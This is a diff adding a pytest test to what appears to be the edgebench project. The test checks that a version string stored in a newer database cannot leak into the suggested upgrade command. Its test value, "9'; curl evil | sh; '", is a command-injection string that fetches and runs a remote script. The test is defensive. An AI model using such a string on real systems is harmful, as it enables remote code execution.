@@ -273,6 +273,22 @@ def test_a_database_of_a_newer_version_is_refused_with_the_version_that_reads_it
     assert query(database, "SELECT version_num FROM alembic_version") == [("9999",)]
 
 
+def test_what_a_newer_database_calls_its_version_is_no_part_of_a_command(
+    database: Path, next_revision: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    del next_revision
+    Store.open(database).close()
+    monkeypatch.undo()
+    connection = sqlite3.connect(database)
+    with connection:
+        connection.execute("UPDATE schema_revision SET edgebench_version = ?", ["9'; curl evil | sh; '"])
+    connection.close()
+    with pytest.raises(EdgebenchError, match="a newer edgebench") as caught:
+        Store.open(database)
+    assert caught.value.next_step == "pip install --upgrade edgebench"
+    assert "curl" not in caught.value.what
+
+
 def test_an_old_database_is_not_upgraded_by_a_reader(database: Path, next_revision: Path) -> None:
     del next_revision
     with pytest.raises(EdgebenchError, match="older edgebench"):
